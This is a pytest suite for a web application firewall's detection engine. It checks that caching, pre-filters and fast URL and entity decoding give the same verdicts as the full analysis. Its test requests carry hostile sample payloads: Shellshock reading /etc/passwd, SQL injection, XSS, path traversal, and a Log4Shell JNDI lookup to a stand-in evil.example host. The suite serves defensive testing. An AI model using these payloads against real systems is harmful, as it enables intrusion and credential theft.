"""The engine's shortcuts (verdict caches, cheap pre-filters, fast decoding paths) must give
exactly the verdicts of the slow path, stay bounded, and not depend on the machine's load."""

from __future__ import annotations

import html
import random
import re

import pytest

from wallarm_wire.protocol import RequestMessage
from node.detect import decode, sqli
from node.detect import engine as engine_mod
from node.detect.engine import Engine

ATTACK_UA = b"() { :; }; /bin/bash -c 'cat /etc/passwd'"
ATTACK_COOKIE = b"session=abc; pref=' union select password from users--"


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine()


def req(target: str = "/", headers: list | None = None, body: bytes = b"", ctype: str | None = None) -> RequestMessage:
    h = [(b"Host", b"app.example"), (b"Accept", b"application/json")] + (headers or [])
    if ctype:
        h.append((b"Content-Type", ctype.encode()))
    return RequestMessage("POST" if body else "GET", target, h, body)


def _summary(det) -> tuple:  # type: ignore[no-untyped-def]
    return det.is_attack, det.score, sorted((a.type, a.location, a.rule_id) for a in det.attacks)


@pytest.mark.parametrize(
    "msg",
    [
        req("/", [(b"User-Agent", ATTACK_UA)]),
        req("/", [(b"Cookie", ATTACK_COOKIE)]),
        req("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
        req("/api", body=b'{"name": "x\' or 1=1--"}', ctype="application/json"),
        req("/api", body=b"a=1&b=..%2f..%2f..%2fetc%2fpasswd", ctype="application/x-www-form-urlencoded"),
    ],
)
def test_a_cached_verdict_equals_a_fresh_one(engine: Engine, msg: RequestMessage) -> None:
    fresh = _summary(Engine().analyze_request(msg))
    assert fresh[0], "the case must be an attack for this test to mean anything"
    first = _summary(engine.analyze_request(msg))
    second = _summary(engine.analyze_request(msg))  # served from the unit caches
    assert first == second == fresh


def test_a_benign_line_does_not_hide_an_attack_elsewhere(engine: Engine) -> None:
    ua = (b"User-Agent", b"Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0")
    assert not engine.analyze_request(req("/", [ua])).is_attack
    assert not engine.analyze_request(req("/", [ua])).is_attack
    det = engine.analyze_request(req("/x?id=1%27%20or%20%271%27%3D%271", [ua]))
    assert det.is_attack and det.attacks[0].location == "query.id"


def test_the_same_attack_line_twice_is_reported_once(engine: Engine) -> None:
    line = (b"X-Api", b"${jndi:ldap://evil.example/a}")
    det = engine.analyze_request(req("/", [line, line]))
    assert det.is_attack
    assert len({(a.location, a.rule_id) for a in det.attacks}) == len(det.attacks)


def test_caches_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(engine_mod, "MAX_UNIT_CACHE", 50)
    monkeypatch.setattr(engine_mod, "MAX_CACHE", 40)
    e = Engine()
    for i in range(300):
        e.analyze_request(req(f"/p/{i}?q=some+words+{i}", [(b"X-Trace", f"t-{i} (x; y)".encode())]))
    assert len(e._unit_cache) <= 50
    assert len(e._cache) <= 40
    # evicted entries are judged again, with the same result
    assert e.analyze_request(req("/", [(b"User-Agent", ATTACK_UA)])).is_attack


def test_cached_verdicts_are_not_tracked_by_the_collector(monkeypatch: pytest.MonkeyPatch) -> None:
    """A full cache replaces one entry per new one, which keeps CPython's young-collection
    trigger from firing: anything tracked that the caches keep piles up until one long
    collection lands inside a request. Cached verdicts must therefore be untracked values
    (bytes), attacks included, and a young collection must run as evictions go on."""
    import gc

    monkeypatch.setattr(engine_mod, "MAX_UNIT_CACHE", 64)
    monkeypatch.setattr(engine_mod, "MAX_CACHE", 64)
    monkeypatch.setattr(engine_mod, "EVICTIONS_PER_COLLECTION", 32)
    collections = []
    monkeypatch.setattr(engine_mod.gc, "collect", lambda generation=2: collections.append(generation))
    e = Engine()
    for i in range(200):
        attack = i % 2 == 0
        target = f"/p/{i}?q=" + ("%27%20or%201%3D1--" if attack else f"word{i}+more+words")
        assert e.analyze_request(req(target, [(b"X-Trace", f"t-{i} (x; y)".encode())])).is_attack is attack
    values = list(e._cache.values()) + list(e._unit_cache.values())
    assert any(values) and all(type(v) is bytes and not gc.is_tracked(v) for v in values)
    assert collections and set(collections) == {0}
    # a verdict served from the cache still names the attack
    det = e.analyze_request(req("/p/198?q=%27%20or%201%3D1--", [(b"X-Trace", b"t-198 (x; y)")]))
    assert det.is_attack and {a.type for a in det.attacks} == {"sqli"} and det.attacks[0].location == "query.q"


def test_oversized_lines_are_judged_every_time_not_cached(engine: Engine) -> None:
    big = b"x" * (engine_mod.MAX_CACHED_UNIT + 10) + b" <script>alert(1)</script>"
    for _ in range(2):
        assert engine.analyze_request(req("/", [(b"X-Big", big)])).is_attack
    assert (b"X-Big", big) not in engine._unit_cache


def test_deadline_counts_cpu_not_waiting(monkeypatch: pytest.MonkeyPatch) -> None:
    """A request preempted on a busy machine (wall clock past the deadline, little CPU used)
    is still judged completely: the verdict must not depend on the load."""
    clock = {"wall": 1000.0}
    monkeypatch.setattr(engine_mod.time, "perf_counter", lambda: clock["wall"])
    e = Engine()
    run = engine_mod._Run(e.threshold)
    clock["wall"] += 5.0  # 5 s of wall clock passed, this thread used almost no CPU
    assert not run.out_of_time()


# ---------------------------------------------------------------------------- fast decoding


def _legacy_entity_decode(value: str) -> str:
    return html.unescape(value) if "&" in value else value


@pytest.mark.parametrize("value", ["a=1&b=2&lt;x", "&ltscript&gt", "&notit;", "&#60&#x3c;", "&amp;lt;",
                                   "&para=1&copy", "&AMP;&Amp;", "&#x110000;", "&unknown; &", "x&&y"])
def test_entity_decode_equals_html_unescape(value: str) -> None:
    assert decode.entity_decode(value) == html.unescape(value)


def test_fast_paths_equal_the_full_decoder_on_random_values(monkeypatch: pytest.MonkeyPatch) -> None:
    """url_decode's fast path, entity candidates and variants()' early return against a
    reference built from the same primitives without the shortcuts."""
    rng = random.Random(7)
    atoms = ["%", "c0", "ae", "%u", "00", "3c", "e4", "b8", "ad", "ff", "&", "#", "x", ";", "lt", "amp",
             "not", "60", "q", "\udcff", "中", "2e", "/", ".", "a", "=", "%25", "\\u003c", "para", " ",
             "PHNjcmlwdD4=", "Jy1vciAxPTEtLQ==", "{", "}", "\"", ":", "0x2f", "\xa0", "\uff0f"]
    for _ in range(20_000):
        v = "".join(rng.choice(atoms) for _ in range(rng.randint(1, 10)))
        assert decode.entity_decode(v) == _legacy_entity_decode(v), v
        assert decode.variants(v)[0] == v
        fast = decode.variants(v), decode.variants(v, try_base64=False)
        # the reference: the same decoder with its early return disabled (a pattern that
        # matches everything makes every value take the full path)
        with monkeypatch.context() as m:
            m.setattr(decode, "_decodable", lambda value, try_base64: True)
            assert fast == (decode.variants(v), decode.variants(v, try_base64=False)), v


def test_substring_prefilters_equal_their_regexes_on_random_text() -> None:
    """_needs_decode, _pathish and _decodable answer by substring tests on ASCII text; they
    must say exactly what the character-class regexes they stand for say, on any text."""
    needs_decode_re = re.compile(r"[%&\\+]")
    rng = random.Random(13)
    atoms = ["%", "&", "\\", "+", "\x00", "0x", "0X", "0x2f", "0X5C", "0x2E", "x", "0", "2f", "a", "Z", "9",
             "/", "_", "-", "=", " ", "\xa0", "\u2215", "\uff0f", "\ue123", "中", "é", "\udcff",
             "abcdefghijklm", "ABCDEFGHIJKLMN", "0123456789abcd"]
    for _ in range(30_000):
        v = "".join(rng.choice(atoms) for _ in range(rng.randint(0, 8)))
        assert decode._needs_decode(v) == bool(needs_decode_re.search(v)), v
        assert decode._pathish(v) == bool(decode._PATHISH_RE.search(v)), v
        assert decode._decodable(v, True) == bool(decode._DECODABLE_B64_RE.search(v)), v
        assert decode._decodable(v, False) == bool(decode._DECODABLE_RE.search(v)), v


def test_url_decode_fast_path_equals_the_general_path_on_random_values() -> None:
    """The codec-based fast path against the general (repairing) decoder it short-cuts."""
    rng = random.Random(11)
    atoms = ["%", "%2", "%25", "%zz", "%E4%B8%AD", "%e4%b8", "%C3%A9", "%c0%ae", "%0a", "%00", "%7F",
             "%80", "%FF", "%u0041", "%U0041", "\\", "\\x41", "%5c", "\udcff", "中", "é", "a", "/", "=",
             "\n", "x", "N"]
    for _ in range(30_000):
        v = "".join(rng.choice(atoms) for _ in range(rng.randint(1, 12)))
        assert decode.url_decode(v) == decode.url_decode_repairing(v), v


def test_url_decode_fast_path_keeps_overlong_and_broken_handling() -> None:
    assert decode.url_decode("%c0%ae%c0%ae%2f") == "../"
    assert decode.url_decode("%e4%b8%ad%e6%96%87") == "中文"
    assert decode.url_decode("a%u003cb") == "a<b"
    assert decode.url_decode("x%ff%fe%41") == "x\xff\xfeA"


def test_binary_lone_bytes_are_bounded() -> None:
    blob = "%" + "\udcff\udcfe a " * 5000
    out = decode.url_decode(blob)
    assert out.count("\xff") == decode.MAX_LONE_BYTE_RUNS  # first runs mapped, rest kept


def test_a_small_request_is_judged_whole_even_past_the_deadline(monkeypatch: pytest.MonkeyPatch) -> None:
    """A collector pause before the first value must not turn an attack into a pass."""
    e = Engine()
    monkeypatch.setattr(engine_mod._Run, "out_of_time", lambda self: True)  # time already spent
    det = e.analyze_request(req("/?p=..%2F..%2F..%2F..%2Fproc%2Fself%2Ffd%2F13"))
    assert det.is_attack and not det.partial
    # a big request is still cut once the guaranteed part is judged
    big = req("/", body=("&".join(f"f{i}=" + "a b " * 3000 for i in range(40))).encode(),
              ctype="application/x-www-form-urlencoded")
    assert e.analyze_request(big).partial == ["deadline"]


def test_isalnum_is_a_subset_of_the_safe_value_class() -> None:
    """_judge_fields dismisses `value.isalnum() or _SAFE_RE.fullmatch(value)`: every
    character isalnum() accepts must be one the regex accepts, or a value would be skipped
    that the regex sends to judging."""
    chars = "".join(chr(c) for c in range(0x110000) if chr(c).isalnum())
    assert engine_mod._SAFE_RE.fullmatch(chars)
    assert not "".isalnum()  # and the empty value still goes to the regex


# ---------------------------------------------------------------------------- SQL analyser


_SQL_ATOMS = ["(", ")", "'", '"', " ", "or", "and", "not", "1", "=", "select", "from", "t", "where", "--", ";",
              "#", "sleep", ",", "x", "a.b", "@@v", "/*", "*/", "-", "||", "&&", "union", "order", "by", "is",
              "null", "drop", "table", "+", "like", "@a", "0x1", "<", ">", "in", "into", "exec", "xp_x", "concat",
              "char", "\n", "\u212a", "having", "{", ":", "https://a.b/c"]
# the words that make a context need its whole token stream, left out to exercise the head
_HEAD_ATOMS = [a for a in _SQL_ATOMS if a not in ("select", "where", "union", "||", "drop", "exec", "having")]


def _judged(text: str, broke_out: bool, tokens: list) -> str | None:
    return sqli._judge(([sqli.Tok((sqli.STR, "'"))] if broke_out else []) + tokens, broke_out)


def test_sql_head_of_the_token_stream_judges_like_the_whole_stream() -> None:
    """context_tokens may stop tokenizing after a head of the stream; _judge must then say
    exactly what it says on the whole stream, in both contexts, whatever the text."""
    rng = random.Random(17)
    shortened = fired = from_start = 0
    for n in range(15_000):
        atoms = _SQL_ATOMS if n % 3 == 0 else _HEAD_ATOMS
        sep = " " if n % 2 else ""
        text = sep.join(rng.choice(atoms) for _ in range(rng.randint(1, 60)))
        for broke_out in (False, True):
            head, whole = sqli.context_tokens(text, broke_out), sqli.tokenize(text)
            verdict = _judged(text, broke_out, head)
            assert verdict == _judged(text, broke_out, whole), (broke_out, text)
            if len(head) < len(whole):
                shortened += 1
                fired += verdict is not None
                from_start += len(head) <= 2
    # the fuzz reached both shortcuts (a head, the first two tokens), firing rules too
    assert shortened - from_start > 500 and from_start > 500 and fired > 20


def test_unquote_bytes_is_urllibs_unquote_to_bytes() -> None:
    """decode.unquote_bytes replaces urllib's per-'%' Python loop with C-level steps."""
    import random
    from urllib.parse import unquote_to_bytes

    from node.detect.decode import unquote_bytes

    alphabet = b"%%%%%\\\\0123456789abcdefABCDEFxyz\x80\xff\x00 uU+"
    rnd = random.Random(1)
    for _ in range(20_000):
        data = bytes(rnd.choice(alphabet) for _ in range(rnd.randint(0, 12)))
        assert unquote_bytes(data) == unquote_to_bytes(data), data
